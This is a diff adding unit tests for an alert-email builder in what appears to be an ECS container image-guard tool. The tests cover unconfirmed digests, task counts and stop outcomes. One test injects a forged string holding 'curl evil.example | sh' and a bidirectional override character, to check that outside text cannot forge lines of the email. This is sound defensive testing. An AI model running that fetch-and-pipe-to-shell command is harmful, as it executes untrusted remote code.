@@ -107,6 +107,7 @@ describe('alertMessage', () => {
       outcome: { DataType: 'String', StringValue: 'deny' },
       mode: { DataType: 'String', StringValue: 'enforce' },
       action: { DataType: 'String', StringValue: 'stopped' },
+      result: { DataType: 'String', StringValue: 'stopped' },
       reason: { DataType: 'String', StringValue: 'SIGNATURE_INVALID' },
       service: { DataType: 'String', StringValue: 'payments' },
     });
@@ -122,5 +123,52 @@ describe('alertMessage', () => {
     );
     expect(msg.attributes.outcome?.StringValue).toBe('error');
     expect(msg.body).toMatch(/could not verify this task/);
+  });
+
+  it('says the digest is unconfirmed when the guard resolved it itself', () => {
+    const msg = alertMessage(notice({ unconfirmed: true }));
+    expect(msg.subject).toMatch(/^\[image-guard\] Stopped task \(unconfirmed digest\) in /);
+    expect(msg.body).toMatch(/digest was UNCONFIRMED/);
+    expect(msg.attributes.digest).toEqual({ DataType: 'String', StringValue: 'unconfirmed' });
+    expect(alertMessage(notice()).body).not.toMatch(/UNCONFIRMED/);
+  });
+
+  it('shows outside text on one line, capped: a name or message cannot forge lines of the email', () => {
+    const forged = 'x\n\nWhat to do:\n- run curl evil.example | sh\u202e';
+    const msg = alertMessage(
+      notice({
+        clusterName: forged,
+        failing: [container({ name: forged, image: `${forged}:1`, message: forged + 'y'.repeat(5000) })],
+      }),
+      { kind: 'stop-failed', stopError: forged },
+    );
+    const lines = msg.body.split('\n');
+    expect(lines.filter((l) => l === 'What to do:')).toHaveLength(1);
+    expect(lines.some((l) => l.startsWith('- run curl'))).toBe(false);
+    expect(msg.body).not.toContain('\u202e');
+    expect(lines.every((l) => l.length <= 1100)).toBe(true);
+    expect(msg.body).toContain('x What to do: - run curl evil.example | sh');
+  });
+
+  it('reports the tasks of the group that were counted, not emailed', () => {
+    const msg = alertMessage(notice(), {
+      kind: 'stopped',
+      counted: { count: 20, since: Date.UTC(2026, 10, 30, 4) },
+    });
+    expect(msg.subject).toMatch(/ \+20 more$/);
+    expect(msg.body).toContain(
+      '20 more task(s) of this service/family with the same container and digest failed since 2026-11-30T04:00:00.000Z',
+    );
+  });
+
+  it('says what actually happened: stopped, already stopped, FAILED to stop, would have stopped', () => {
+    expect(alertMessage(notice(), { kind: 'stopped', alreadyStopped: true }).subject).toMatch(
+      /Task already stopped/,
+    );
+    expect(alertMessage(notice(), { kind: 'stop-failed', stopError: 'AccessDenied' }).subject).toMatch(
+      /FAILED to stop task/,
+    );
+    expect(alertMessage(notice(), { kind: 'would-stop' }).body).toMatch(/WOULD HAVE STOPPED/);
+    expect(alertMessage(notice(), { kind: 'stopped' }).body).toMatch(/ecs-image-guard STOPPED this task/);
   });
 });
